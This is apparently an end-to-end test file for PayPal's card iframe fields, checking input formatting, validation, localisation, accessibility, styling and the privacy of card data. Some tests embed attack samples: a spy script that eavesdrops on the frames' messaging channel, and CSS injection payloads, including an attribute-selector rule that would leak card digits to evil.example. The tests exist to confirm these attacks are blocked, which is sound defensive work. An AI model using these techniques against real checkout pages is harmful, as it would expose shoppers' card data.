/** Tests PayPal's card fields in a real browser, on a merchant's page of another origin. */
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { captureOf } from './payer.ts';
import { customer, startShop, type FieldName, type Shop } from './shop.ts';

/** A page that spies on the card: it joins the frames' channel, records messages and reads all documents. */
const SPY = `
  const heard = [];
  const { searchParams } = new URL(document.querySelector('iframe').src);
  const channel = new BroadcastChannel('card-' + searchParams.get('session'));
  channel.onmessage = ({ data }) => heard.push(data);
  channel.postMessage('collect');
  addEventListener('message', ({ data }) => heard.push(data));
  globalThis.spied = () => {
    const frames = [...document.querySelectorAll('iframe')];
    return {
      frames: frames.length,
      readable: frames.filter((frame) => frame.contentDocument !== null).length,
      text: document.documentElement.outerHTML + JSON.stringify(heard),
    };
  };
`;

let shop: Shop;
let page: Page;
beforeAll(async () => {
  shop = await startShop();
});
afterEach(async () => {
  // The browser reports 422 responses and requests that the policy blocks as errors.
  const expected = /422|evil\.example/;
  shop.complaints.splice(0, Infinity, ...shop.complaints.filter((text) => !expected.test(text)));
  await shop.closePages();
});
afterAll(() => shop.close());

/** Creates a PayPal order and opens the shop's page for it. */
async function goToPay(options: { locale?: string; field?: object } = {}): Promise<string> {
  const order = await shop.openOrder();
  page = await shop.visit({ order, ...options, field: JSON.stringify(options.field ?? {}) });
  return order;
}
const field = (name: FieldName) => customer(page).field(name);
const fill = (card: Partial<Record<FieldName, string>>) => customer(page).fill(card);
async function pay() {
  await customer(page).submit();
  const { state, data } = await customer(page).told('submitted');
  return { state, data };
}
const CARD = { number: '4012888888881881', expiry: '1234', cvv: '123' };

it('accepts a card in its frames, and the order can be captured', async () => {
  const orderId = await goToPay();
  await fill(CARD);
  expect(await field('number').inputValue()).toBe('4012 8888 8888 1881');
  expect(await field('expiry').inputValue()).toBe('12/34');
  expect(await pay()).toMatchObject({ state: 'succeeded', data: { orderId } });
  const taken = await shop.capture(orderId);
  expect(captureOf(taken)).toMatchObject({ status: 'COMPLETED' });
});

it('reports an invalid card, keeps the input, and accepts the corrected card', async () => {
  const orderId = await goToPay();
  await fill({ ...CARD, number: '4012888888881882' });
  expect(await pay()).toEqual({
    state: 'failed',
    data: { orderId, message: 'The card number is not valid.' },
  });
  expect(await field('number').inputValue()).toBe('4012 8888 8888 1882');
  expect(await field('expiry').inputValue()).toBe('12/34');
  expect(await field('cvv').inputValue()).toBe('123');

  await field('number').press('End');
  await field('number').press('Backspace');
  await field('number').press('1');
  expect(await pay()).toMatchObject({ state: 'succeeded' });
});

it('reports which field is invalid', async () => {
  await goToPay();
  await fill({ number: CARD.number, cvv: CARD.cvv });
  const message = async () => (await pay()).data?.message;
  expect(await message()).toBe('The expiry date is not valid. Please enter the month and year.');
  await fill({ expiry: '0120' });
  expect(await message()).toBe('The card has expired.');
  await fill({ expiry: '1234', cvv: '12' });
  expect(await message()).toBe('The security code is not valid.');
});

it('refuses a card for an order that is already paid', async () => {
  const orderId = await goToPay();
  shop.sandbox.approve(orderId);
  await shop.capture(orderId);
  await fill(CARD);
  expect(await pay()).toMatchObject({
    state: 'failed',
    data: { message: 'This payment cannot be approved.' },
  });
});

it('accepts expiry dates in different formats', async () => {
  await goToPay();
  const written = {
    '1234': '12/34',
    '12/34': '12/34',
    '12 / 2034': '12/34',
    '3/34': '03/34',
    '1/34': '01/34',
    '12/20': '12/20',
  };
  for (const [typed, shown] of Object.entries(written)) {
    await fill({ expiry: typed });
    expect(await field('expiry').inputValue()).toBe(shown);
  }
});

it('keeps the cursor position when a digit in the middle is corrected', async () => {
  await goToPay();
  await fill({ number: '4012888888881881' });
  await field('number').press('Home');
  for (let i = 0; i < 6; i++) await field('number').press('ArrowRight');
  await field('number').press('Backspace');
  await field('number').pressSequentially('75');
  expect(await field('number').inputValue()).toBe('4012 7588 8888 8188 1');
});

it('does not reveal the card to a page that spies on it', async () => {
  await goToPay();
  await fill(CARD);
  await page.evaluate(SPY);
  expect(await pay()).toMatchObject({ state: 'succeeded' });
  const seen = await page.evaluate<{ frames: number; readable: number; text: string }>('spied()');
  expect(seen).toMatchObject({ frames: 4, readable: 0 });
  expect(seen.text).toContain('succeeded');
  expect(seen.text.replaceAll(/[ -]/g, '')).not.toContain(CARD.number);
});

const LABELS = {
  'en-GB': { number: 'Card number', expiry: 'Expiry date (MM/YY)', cvv: 'Security code' },
  'de-DE': { number: 'Kartennummer', expiry: 'Ablaufdatum (MM/JJ)', cvv: 'Prüfnummer' },
};
const AUTOCOMPLETE = { number: 'cc-number', expiry: 'cc-exp', cvv: 'cc-csc' };

it.each(['en-GB', 'de-DE'] as const)(
  'supports autofill and screen readers with labels in %s',
  async (locale) => {
    await goToPay({ locale });
    for (const [name, autocomplete] of Object.entries(AUTOCOMPLETE) as [FieldName, string][]) {
      await field(name).waitFor();
      expect(await field(name).getAttribute('autocomplete')).toBe(autocomplete);
      expect(await field(name).getAttribute('inputmode')).toBe('numeric');
      expect(await field(name).getAttribute('aria-label')).toBe(LABELS[locale][name]);
      // The field is configured by a message, after it was loaded.
      await expect.poll(() => field(name).getAttribute('placeholder')).toBe(name);
      const frame = page.getByTitle(LABELS[locale][name].split(' (')[0] ?? '', { exact: true });
      expect(await frame.contentFrame().locator('html').getAttribute('lang')).toBe(locale.slice(0, 2));
    }
  },
);

it('reports errors in German for a German locale', async () => {
  await goToPay({ locale: 'de-AT' });
  await fill({ ...CARD, number: '4012888888881882' });
  expect((await pay()).data?.message).toBe('Die Kartennummer ist ungültig.');
});

describe('the style of the fields', () => {
  type Styles = { getComputedStyle: (element: unknown) => { getPropertyValue: (name: string) => string } };
  const css = (property: string) =>
    field('number').evaluate(
      (input, name) => (globalThis as unknown as Styles).getComputedStyle(input).getPropertyValue(name),
      property,
    );

  it('is set by the shop', async () => {
    await goToPay({
      field: {
        style: {
          input: { color: 'rgb(1, 2, 3)', fontSize: '20px', 'font-family': 'monospace', paddingLeft: '7px' },
          'input::placeholder': { color: 'rgb(4, 5, 6)' },
          'input.focus': { color: 'rgb(7, 8, 9)' },
          'input.invalid': { color: 'rgb(10, 11, 12)' },
        },
      },
    });
    await expect.poll(() => css('color')).toBe('rgb(1, 2, 3)');
    expect(await css('font-size')).toBe('20px');
    expect(await css('font-family')).toBe('monospace');
    expect(await css('padding-left')).toBe('7px');
    await field('number').focus();
    expect(await css('color')).toBe('rgb(7, 8, 9)');
    await field('number').pressSequentially('4012');
    await field('expiry').focus();
    await expect.poll(() => css('color')).toBe('rgb(10, 11, 12)');
  });

  it('cannot inject other rules, properties or URLs', async () => {
    await goToPay({
      field: {
        style: {
          input: {
            color: 'rgb(1, 2, 3)',
            letterSpacing: '2px } body { display: none',
            position: 'fixed',
            background: 'url(https://evil.example/x.png)',
          },
          'body { display: none } input': { color: 'red' },
          'input[value^="4"]': { background: 'url(https://evil.example/4.png)' },
        },
      },
    });
    await expect.poll(() => css('color')).toBe('rgb(1, 2, 3)');
    expect(await css('letter-spacing')).toBe('normal');
    expect(await css('position')).toBe('static');
    expect(await field('number').isVisible()).toBe(true);
    // The frame's content security policy blocked the image.
    await expect
      .poll(() => shop.complaints.join())
      .toMatch(/evil\.example.*violates the following Content Security Policy/);
  });
});

it('uses the ARIA texts of the shop', async () => {
  const words = {
    ariaLabel: 'Your card',
    ariaDescription: 'Sixteen digits',
    ariaInvalidErrorMessage: 'That is no card',
  };
  await goToPay({ field: words });
  await expect.poll(() => field('number').getAttribute('aria-label')).toBe('Your card');
  expect(await field('number').getAttribute('aria-describedby')).toBe('description');
  const frame = page.getByTitle('Card number').contentFrame();
  expect(await frame.locator('#description').textContent()).toBe('Sixteen digits');
  expect(await frame.locator('#error').textContent()).toBe('That is no card');
  await fill({ number: '4012' });
  await field('cvv').focus();
  await expect.poll(() => field('number').getAttribute('aria-invalid')).toBe('true');
});

it('reports events of a field to the shop, but never its content', async () => {
  await goToPay();
  await fill({ number: CARD.number });
  await field('number').press('Enter');
  type Heard = { event: string; state: { emittedBy: string; number: object; cards: { type: string }[] } };
  const heard = () => page.evaluate<Heard[]>('globalThis.heard');
  await expect.poll(async () => (await heard()).at(-1)?.event).toBe('inputsubmit');
  const last = (await heard()).at(-1);
  expect(last?.state).toMatchObject({
    emittedBy: 'number',
    number: { isEmpty: false, isValid: true, isFocused: true, isPotentiallyValid: true },
    cards: [{ type: 'visa', code: { name: 'CVV', size: 3 } }],
  });
  expect((await heard()).map(({ event }) => event)).toEqual(
    expect.arrayContaining(['focus', 'cardtypechange', 'validitychange']),
  );
  expect(JSON.stringify(await heard()).replaceAll(/[ -]/g, '')).not.toMatch(/4012/);
});
